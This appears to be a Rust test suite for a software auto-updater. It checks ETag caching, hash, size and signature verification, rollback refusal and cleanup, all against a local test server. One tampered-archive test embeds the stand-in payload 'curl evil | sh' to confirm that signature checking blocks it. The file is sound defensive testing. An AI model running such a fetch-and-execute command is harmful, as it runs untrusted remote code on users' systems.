//! The Updater against a real HTTP server on 127.0.0.1 (`testing.rs`) and a real `~/.gmnew`
//! in a temporary folder.

use std::time::{Duration, SystemTime};

use serde_json::json;

use super::testing::{
    archive_of, build_archive, closed_port_url, gm_script, keypair, manifest_json, sha256_hex, sign,
    signed_manifest_json, Route, TestServer,
};
use super::*;

/// Keeps every event the updater sends.
#[derive(Default)]
struct Collector(Vec<UpdateEvent>);

impl Actor for Collector {
    type Context = Context<Self>;
}

impl Handler<UpdateEvent> for Collector {
    type Result = ();
    fn handle(&mut self, e: UpdateEvent, _: &mut Context<Self>) {
        self.0.push(e);
    }
}

/// The events received so far (every event sent before a check answered is among them: the
/// collector's mailbox is in order).
#[derive(Message)]
#[rtype(result = "Vec<UpdateEvent>")]
struct Take;

impl Handler<Take> for Collector {
    type Result = MessageResult<Take>;
    fn handle(&mut self, _: Take, _: &mut Context<Self>) -> MessageResult<Take> {
        MessageResult(std::mem::take(&mut self.0))
    }
}

const MANIFEST: &str = "/rel/manifest.json";

struct Setup {
    server: TestServer,
    home: tempfile::TempDir,
    events: Addr<Collector>,
    /// The key pair releases are signed with here: (public base64, secret key file text).
    key: (String, String),
}

impl Setup {
    fn new() -> Setup {
        Setup {
            server: TestServer::start(),
            home: tempfile::tempdir().unwrap(),
            events: Collector::default().start(),
            key: keypair(),
        }
    }

    fn root(&self) -> PathBuf {
        self.home.path().join(".gmnew")
    }

    fn config(&self) -> Config {
        self.config_for(&self.server.url(MANIFEST))
    }

    fn config_for(&self, url: &str) -> Config {
        Config::On {
            manifest_url: Url::parse(url).unwrap(),
            root: self.root(),
            every: Duration::from_secs(3600),
            keys: TrustedKeys::only(&[&self.key.0]).unwrap(),
        }
    }

    fn spawn(&self) -> Addr<Updater> {
        Updater::spawn(self.config(), self.events.clone().recipient())
    }

    async fn take(&self) -> Vec<UpdateEvent> {
        self.events.send(Take).await.unwrap()
    }

    /// Serves a build of `version` for this target and a manifest listing it (with `sha256`
    /// in place of the archive's when given); returns the archive's size.
    fn publish(&self, version: &str, etag: &str, sha256: Option<&str>) -> usize {
        let archive = build_archive(version, TARGET, &gm_script(version));
        let sha = sha256.map(str::to_owned).unwrap_or_else(|| sha256_hex(&archive));
        self.publish_bytes(version, etag, &sha, archive)
    }

    /// Serves `archive` as version `version`'s, under a manifest giving `sha256`, its size and
    /// its signature by this setup's key.
    fn publish_bytes(&self, version: &str, etag: &str, sha256: &str, archive: Vec<u8>) -> usize {
        let signature = sign(&archive, &self.key.1);
        self.publish_signed(version, etag, sha256, archive, Some(&signature))
    }

    /// Serves `archive` under a manifest giving `signature` (none: no `signature` field).
    fn publish_signed(
        &self,
        version: &str,
        etag: &str,
        sha256: &str,
        archive: Vec<u8>,
        signature: Option<&str>,
    ) -> usize {
        let name = format!("gmnew-{version}-{TARGET}.tar.gz");
        let size = archive.len();
        let manifest = match signature {
            Some(sig) => signed_manifest_json(version, TARGET, &name, sha256, size, sig),
            None => manifest_json(version, TARGET, &name, sha256, size),
        };
        self.server.serve(MANIFEST, manifest, Some(etag));
        self.server.serve(&format!("/rel/{name}"), archive, None);
        size
    }

    fn leftovers(&self) -> Vec<PathBuf> {
        match std::fs::read_dir(self.root().join("downloads")) {
            Ok(entries) => entries.map(|e| e.unwrap().path()).collect(),
            Err(_) => Vec::new(),
        }
    }

    fn staged_versions(&self) -> Vec<String> {
        match std::fs::read_dir(self.root().join("versions")) {
            Ok(entries) => entries.map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect(),
            Err(_) => Vec::new(),
        }
    }
}

fn paths(server: &TestServer) -> Vec<String> {
    server.requests().into_iter().map(|r| r.path).collect()
}

#[actix_rt::test]
async fn updates_off_send_one_off_event_and_make_no_request() {
    let s = Setup::new();
    let updater = Updater::spawn(Config::Off { why: "GMNEW_AUTO_UPDATE=0".into() }, s.events.clone().recipient());
    assert_eq!(updater.send(Check).await.unwrap(), Outcome::Off { why: "GMNEW_AUTO_UPDATE=0".into() });
    assert_eq!(updater.send(WaitIdle).await.unwrap(), Outcome::Off { why: "GMNEW_AUTO_UPDATE=0".into() });
    let status = updater.send(Status).await.unwrap();
    assert_eq!(status.last, Some(Outcome::Off { why: "GMNEW_AUTO_UPDATE=0".into() }));
    assert_eq!(status.checks, 0);
    assert_eq!(s.take().await, vec![UpdateEvent::Off { why: "GMNEW_AUTO_UPDATE=0".into() }]);
    assert_eq!(s.server.connections(), 0);
}

#[actix_rt::test]
async fn the_next_check_asks_with_the_etag_and_a_304_changes_nothing() {
    let s = Setup::new();
    s.server.serve(MANIFEST, manifest_json(VERSION, TARGET, "a.tar.gz", &"0".repeat(64), 10), Some("\"v1\""));
    let updater = s.spawn();
    assert_eq!(updater.send(WaitIdle).await.unwrap(), Outcome::UpToDate { version: Some(VERSION.into()) });
    assert_eq!(
        s.take().await,
        vec![UpdateEvent::Checked {
            version: Some(VERSION.into()),
            newer: false,
            running: VERSION,
            target: TARGET,
            current: None,
            already_staged: false
        }]
    );
    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)).as_deref(), Some("\"v1\""));

    assert_eq!(updater.send(Check).await.unwrap(), Outcome::NotModified);
    let requests = s.server.requests();
    assert_eq!(requests.len(), 2, "{requests:?}");
    assert_eq!(requests[0].header("if-none-match"), None);
    assert_eq!(requests[1].header("if-none-match"), Some("\"v1\""));
    assert_eq!(s.take().await, vec![], "a 304 is not logged");
    let status = updater.send(Status).await.unwrap();
    assert_eq!((status.checks, status.checking, status.last), (2, false, Some(Outcome::NotModified)));
}

#[actix_rt::test]
async fn a_restarted_updater_asks_with_the_etag_it_saved() {
    let s = Setup::new();
    s.server.serve(MANIFEST, manifest_json(VERSION, TARGET, "a.tar.gz", &"0".repeat(64), 10), Some("\"v1\""));
    s.spawn().send(WaitIdle).await.unwrap();
    assert_eq!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::NotModified);
    assert_eq!(s.server.requests()[1].header("if-none-match"), Some("\"v1\""));
}

#[actix_rt::test]
async fn an_etag_saved_for_another_url_is_not_sent() {
    let s = Setup::new();
    state::save(&s.root(), &state::Saved { url: "http://elsewhere/manifest.json".into(), etag: "\"old\"".into() })
        .unwrap();
    s.server.serve(MANIFEST, manifest_json(VERSION, TARGET, "a.tar.gz", &"0".repeat(64), 10), Some("\"v1\""));
    s.spawn().send(WaitIdle).await.unwrap();
    assert_eq!(s.server.requests()[0].header("if-none-match"), None);
}

#[actix_rt::test]
async fn a_newer_build_is_downloaded_verified_and_staged() {
    let s = Setup::new();
    let size = s.publish("99.0.0", "\"v99\"", None);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    let dir = s.root().join("versions/99.0.0");
    assert_eq!(outcome, Outcome::Staged { version: "99.0.0".into(), dir: dir.clone() });
    assert_eq!(std::fs::read_to_string(s.root().join("current/gm")).unwrap(), gm_script("99.0.0"));
    assert_eq!(std::fs::read_to_string(s.root().join("current/skills/gm/SKILL.md")).unwrap(), "# gm skill\n");

    let events = s.take().await;
    assert_eq!(events.len(), 3, "{events:?}");
    assert!(matches!(&events[0], UpdateEvent::Checked { version: Some(v), newer: true, .. } if v == "99.0.0"));
    assert!(
        matches!(&events[1], UpdateEvent::Downloaded { version, bytes, .. } if version == "99.0.0" && *bytes == size as u64)
    );
    assert_eq!(events[2], UpdateEvent::Staged { version: "99.0.0".into(), dir });
    assert_eq!(paths(&s.server), [MANIFEST.to_owned(), format!("/rel/gmnew-99.0.0-{TARGET}.tar.gz")]);
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new(), "no temporary file is left");
    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)).as_deref(), Some("\"v99\""));
}

#[actix_rt::test]
async fn a_version_already_staged_is_not_downloaded_again() {
    let s = Setup::new();
    s.publish("99.0.0", "\"a\"", None);
    s.spawn().send(WaitIdle).await.unwrap();
    s.take().await;
    // The same release under a new ETag (republished), checked by a gm started later.
    s.publish("99.0.0", "\"b\"", None);
    assert_eq!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::AlreadyStaged { version: "99.0.0".into() });
    let events = s.take().await;
    assert!(matches!(&events[..], [UpdateEvent::Checked { newer: true, already_staged: true, .. }]), "{events:?}");
    assert_eq!(paths(&s.server).iter().filter(|p| p.ends_with(".tar.gz")).count(), 1);
}

#[actix_rt::test]
async fn a_bad_sha256_is_refused_nothing_is_staged_and_the_next_check_tries_again() {
    let s = Setup::new();
    s.publish("99.0.0", "\"v99\"", Some(&"ab".repeat(32)));
    let updater = s.spawn();
    let outcome = updater.send(WaitIdle).await.unwrap();
    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::BadSha256 { .. }, .. }), "{outcome:?}");
    let events = s.take().await;
    let Some(UpdateEvent::Refused { version, reason, detail }) = events.last() else { panic!("{events:?}") };
    assert_eq!((version.as_str(), *reason), ("99.0.0", "bad-sha256"));
    assert!(detail.contains(&"ab".repeat(32)), "{detail}");
    assert_eq!(s.staged_versions(), Vec::<String>::new());
    assert!(!s.root().join("current").exists());
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());

    // The ETag was not saved: the next check gets the manifest again, and the archive.
    updater.send(Check).await.unwrap();
    let requests = s.server.requests();
    assert_eq!(requests.len(), 4, "{requests:?}");
    assert_eq!(requests[2].header("if-none-match"), None);
}

#[actix_rt::test]
async fn an_archive_longer_than_the_manifest_says_is_refused_before_it_is_all_read() {
    let s = Setup::new();
    let name = format!("gmnew-99.0.0-{TARGET}.tar.gz");
    let long = vec![7u8; 4 << 20];
    s.server.serve(MANIFEST, manifest_json("99.0.0", TARGET, &name, &sha256_hex(&long), 1000), Some("\"e\""));
    // Announced: refused from the headers.
    s.server.serve(&format!("/rel/{name}"), long.clone(), None);
    let updater = s.spawn();
    let outcome = updater.send(WaitIdle).await.unwrap();
    let want = Refusal::WrongSize { got: (4u64 << 20).to_string(), want: 1000 };
    assert_eq!(outcome, Outcome::Refused { version: "99.0.0".into(), refusal: want });
    // Not announced (the body ends when the connection closes): refused past 1000 bytes.
    s.server.route(&format!("/rel/{name}"), Route { body: long, etag: None, length: false });
    let outcome = updater.send(Check).await.unwrap();
    let want = Refusal::WrongSize { got: "more than 1000".into(), want: 1000 };
    assert_eq!(outcome, Outcome::Refused { version: "99.0.0".into(), refusal: want });
    let events = s.take().await;
    assert!(!events.iter().any(|e| matches!(e, UpdateEvent::Downloaded { .. })), "{events:?}");
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());
    assert_eq!(s.staged_versions(), Vec::<String>::new());
}

#[actix_rt::test]
async fn an_archive_shorter_than_the_manifest_says_is_refused() {
    let s = Setup::new();
    let name = format!("gmnew-99.0.0-{TARGET}.tar.gz");
    let archive = build_archive("99.0.0", TARGET, "gm");
    let size = archive.len() + 1;
    s.server.serve(MANIFEST, manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), size), Some("\"e\""));
    s.server.serve(&format!("/rel/{name}"), archive.clone(), None);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    let want = Refusal::WrongSize { got: archive.len().to_string(), want: size as u64 };
    assert_eq!(outcome, Outcome::Refused { version: "99.0.0".into(), refusal: want });
    assert_eq!(s.staged_versions(), Vec::<String>::new());
}

#[actix_rt::test]
async fn an_archive_whose_build_json_says_another_version_is_refused() {
    let s = Setup::new();
    let top = format!("gmnew-99.0.0-{TARGET}");
    let archive = archive_of(&[
        (format!("{top}/gm"), b"gm".to_vec(), 0o755),
        (format!("{top}/build.json"), format!(r#"{{"version":"98.0.0","target":"{TARGET}"}}"#).into_bytes(), 0o644),
    ]);
    s.publish_bytes("99.0.0", "\"e\"", &sha256_hex(&archive), archive);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::BuildJsonMismatch(_), .. }), "{outcome:?}");
    let events = s.take().await;
    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "build-json-mismatch", .. })), "{events:?}");
    assert_eq!(s.staged_versions(), Vec::<String>::new());
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new(), "the unpacked folder is removed too");
}

#[actix_rt::test]
async fn an_archive_that_is_not_a_build_is_refused() {
    let s = Setup::new();
    let archive = b"not a tar.gz at all".to_vec();
    s.publish_bytes("99.0.0", "\"e\"", &sha256_hex(&archive), archive);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::BadArchive(_), .. }), "{outcome:?}");
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());
}

#[actix_rt::test]
async fn a_network_failure_is_logged_once_while_it_lasts() {
    let s = Setup::new();
    let updater = Updater::spawn(s.config_for(&closed_port_url(MANIFEST)), s.events.clone().recipient());
    let first = updater.send(WaitIdle).await.unwrap();
    let Outcome::Failed { error } = &first else { panic!("{first:?}") };
    assert!(error.contains("onnection refused"), "the cause is named: {error}");
    assert_eq!(updater.send(Check).await.unwrap(), first);
    assert_eq!(s.take().await, vec![UpdateEvent::Failed { error: error.clone() }]);
    assert_eq!(updater.send(Status).await.unwrap().checks, 2);
}

#[actix_rt::test]
async fn a_missing_archive_fails_the_check_and_the_next_check_tries_again() {
    let s = Setup::new();
    let name = format!("gmnew-99.0.0-{TARGET}.tar.gz");
    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
    let signature = sign(&archive, &s.key.1);
    let manifest = signed_manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), archive.len(), &signature);
    s.server.serve(MANIFEST, manifest, Some("\"v99\""));
    // The archive is not served yet: 404.
    let updater = s.spawn();
    let outcome = updater.send(WaitIdle).await.unwrap();
    let Outcome::Failed { error } = &outcome else { panic!("{outcome:?}") };
    assert!(error.contains("404"), "{error}");
    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)), None, "not handled to the end: no ETag saved");

    s.server.serve(&format!("/rel/{name}"), archive, None);
    let outcome = updater.send(Check).await.unwrap();
    assert!(matches!(outcome, Outcome::Staged { .. }), "{outcome:?}");
    let requests = s.server.requests();
    assert_eq!(requests[2].path, MANIFEST);
    assert_eq!(requests[2].header("if-none-match"), None);
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());
}

#[actix_rt::test]
async fn a_manifest_without_this_target_offers_nothing() {
    let s = Setup::new();
    s.server.serve(MANIFEST, manifest_json("99.0.0", "another-target", "a.tar.gz", &"0".repeat(64), 10), Some("\"e\""));
    assert_eq!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::UpToDate { version: None });
    let events = s.take().await;
    assert!(matches!(&events[..], [UpdateEvent::Checked { version: None, newer: false, .. }]), "{events:?}");
    assert_eq!(paths(&s.server), [MANIFEST]);
}

#[actix_rt::test]
async fn an_invalid_manifest_fails_the_check_naming_it() {
    let s = Setup::new();
    s.server.serve(MANIFEST, "<html>not found</html>", Some("\"e\""));
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    let Outcome::Failed { error } = &outcome else { panic!("{outcome:?}") };
    assert!(error.contains("is not valid"), "{error}");
    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)), None);
}

#[actix_rt::test]
async fn leftovers_of_an_interrupted_download_are_removed() {
    let s = Setup::new();
    let downloads = s.root().join("downloads");
    std::fs::create_dir_all(downloads.join("1.0.0-1-0.unpack")).unwrap();
    let old = std::fs::File::create(downloads.join("1.0.0-1-1.part")).unwrap();
    let two_hours_ago = SystemTime::now() - Duration::from_secs(2 * 3600);
    old.set_modified(two_hours_ago).unwrap();
    std::fs::File::open(downloads.join("1.0.0-1-0.unpack")).unwrap().set_modified(two_hours_ago).unwrap();
    let recent = downloads.join("1.0.0-2-0.part");
    std::fs::write(&recent, "another gm's download in progress").unwrap();
    s.publish("99.0.0", "\"e\"", None);
    assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
    assert_eq!(s.leftovers(), vec![recent]);
}

/// Checks that `outcome` refused the archive for its signature, that the refusal was logged,
/// and that nothing was unpacked, staged or left behind.
async fn assert_refused_for_its_signature(s: &Setup, outcome: Outcome, why: &str) {
    let Outcome::Refused { refusal: Refusal::BadSignature(detail), .. } = &outcome else { panic!("{outcome:?}") };
    assert!(detail.contains(why), "{detail}");
    let events = s.take().await;
    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "bad-signature", .. })), "{events:?}");
    assert_eq!(s.staged_versions(), Vec::<String>::new());
    assert!(!s.root().join("current").exists());
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new(), "nothing was unpacked, the download is gone");
}

#[actix_rt::test]
async fn an_unsigned_archive_is_refused_before_it_is_unpacked() {
    let s = Setup::new();
    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, None);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert_refused_for_its_signature(&s, outcome, "no signature").await;
}

#[actix_rt::test]
async fn an_archive_signed_by_another_key_is_refused() {
    let s = Setup::new();
    let (_, attacker) = keypair();
    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
    let signature = sign(&archive, &attacker);
    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, Some(&signature));
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert_refused_for_its_signature(&s, outcome, "not one gm trusts").await;
}

#[actix_rt::test]
async fn a_tampered_archive_with_a_matching_sha256_is_refused_for_its_signature() {
    let s = Setup::new();
    // The release as signed, then replaced by an attacker who controls the manifest too: the
    // sha256 and size are the new archive's, the signature is the release's.
    let signed = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
    let signature = sign(&signed, &s.key.1);
    let tampered = build_archive("99.0.0", TARGET, "#!/bin/sh\necho gm 99.0.0; curl evil | sh\n");
    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&tampered), tampered, Some(&signature));
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert_refused_for_its_signature(&s, outcome, "does not match").await;
}

#[cfg(unix)]
#[actix_rt::test]
async fn a_build_whose_gm_does_not_start_is_refused_remembered_as_bad_and_not_downloaded_again() {
    let s = Setup::new();
    let broken = "#!/bin/sh\necho 'gm: /lib/libc.so.6: version GLIBC_2.99 not found' >&2\nexit 1\n";
    let archive = build_archive("99.0.0", TARGET, broken);
    s.publish_bytes("99.0.0", "\"a\"", &sha256_hex(&archive), archive);
    let updater = s.spawn();
    let outcome = updater.send(WaitIdle).await.unwrap();
    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::DoesNotStart(_), .. }), "{outcome:?}");
    let events = s.take().await;
    let Some(UpdateEvent::Refused { reason, detail, .. }) = events.last() else { panic!("{events:?}") };
    assert_eq!(*reason, "does-not-start");
    assert!(detail.contains("exit code 1") && detail.contains("GLIBC_2.99"), "its stderr's end: {detail}");
    assert_eq!(s.staged_versions(), Vec::<String>::new(), "nothing staged, no copy left");
    assert!(!s.root().join("current").exists());
    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());
    assert!(state::bad(&s.root(), "99.0.0").is_some_and(|b| b.causes[0].contains("GLIBC_2.99")));

    // Republished under a new ETag: refused from the manifest, without a download.
    let archives_before = paths(&s.server).iter().filter(|p| p.ends_with(".tar.gz")).count();
    s.publish("99.0.0", "\"b\"", None);
    let outcome = updater.send(Check).await.unwrap();
    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::KnownBad { .. }, .. }), "{outcome:?}");
    assert_eq!(paths(&s.server).iter().filter(|p| p.ends_with(".tar.gz")).count(), archives_before);
    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)).as_deref(), Some("\"b\""), "handled to the end");
}

#[actix_rt::test]
async fn a_lower_version_than_current_is_refused_without_a_download_whatever_the_running_build() {
    let s = Setup::new();
    s.publish("99.0.0", "\"new\"", None);
    assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
    s.take().await;
    // A replayed older manifest, still newer than the running build.
    s.publish("98.0.0", "\"old\"", None);
    let outcome = s.spawn().send(WaitIdle).await.unwrap();
    assert_eq!(
        outcome,
        Outcome::Refused { version: "98.0.0".into(), refusal: Refusal::OlderThanCurrent { current: "99.0.0".into() } }
    );
    let events = s.take().await;
    assert!(
        matches!(&events[0], UpdateEvent::Checked { newer: true, current: Some(c), .. } if c == "99.0.0"),
        "{events:?}"
    );
    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "older-than-current", .. })), "{events:?}");
    assert!(!paths(&s.server).iter().any(|p| p.contains("98.0.0")), "the older archive was not downloaded");
    assert_eq!(builds::current_version(&s.root()).as_deref(), Some("99.0.0"));
    assert_eq!(s.staged_versions(), ["99.0.0"]);
}

#[actix_rt::test]
async fn a_build_the_updater_staged_is_known_as_its_own() {
    let s = Setup::new();
    s.publish("99.0.0", "\"e\"", None);
    assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
    assert_eq!(state::staged_by_updater(&s.root()).as_deref(), Some("99.0.0"));
}

#[test]
fn updates_are_off_with_auto_update_0_even_for_a_release() {
    assert_eq!(Policy::decide(Some("0"), true), Policy::Off { why: "GMNEW_AUTO_UPDATE=0".into() });
    assert_eq!(Policy::decide(None, true), Policy::On);
}

#[test]
fn a_development_build_updates_only_with_auto_update_1() {
    assert_eq!(Policy::decide(Some("1"), false), Policy::On);
    let Policy::Off { why } = Policy::decide(None, false) else { panic!("a development build updated") };
    assert!(why.contains("development build"), "{why}");
    assert!(matches!(Policy::decide(Some(""), false), Policy::Off { .. }), "empty is unset");
}

#[test]
fn an_unknown_auto_update_value_turns_updates_off_saying_why() {
    let Policy::Off { why } = Policy::decide(Some("yes"), true) else { panic!("on") };
    assert!(why.contains("\"yes\""), "{why}");
}

#[test]
fn update_events_serialize_with_their_status_and_camel_case_fields() {
    let checked = UpdateEvent::Checked {
        version: None,
        newer: false,
        running: "0.1.0",
        target: "t",
        current: None,
        already_staged: false,
    };
    assert_eq!(
        serde_json::to_value(&checked).unwrap(),
        json!({ "status": "checked", "version": null, "newer": false, "running": "0.1.0", "target": "t" })
    );
    let staged = UpdateEvent::Checked {
        version: Some("2.0.0".into()),
        newer: true,
        running: "0.1.0",
        target: "t",
        current: Some("1.0.0".into()),
        already_staged: true,
    };
    assert_eq!(serde_json::to_value(&staged).unwrap()["alreadyStaged"], true);
    assert_eq!(serde_json::to_value(&staged).unwrap()["current"], "1.0.0");
    let refused = UpdateEvent::Refused { version: "2.0.0".into(), reason: "bad-sha256", detail: "d".into() };
    assert_eq!(
        serde_json::to_value(&refused).unwrap(),
        json!({ "status": "refused", "version": "2.0.0", "reason": "bad-sha256", "detail": "d" })
    );
}
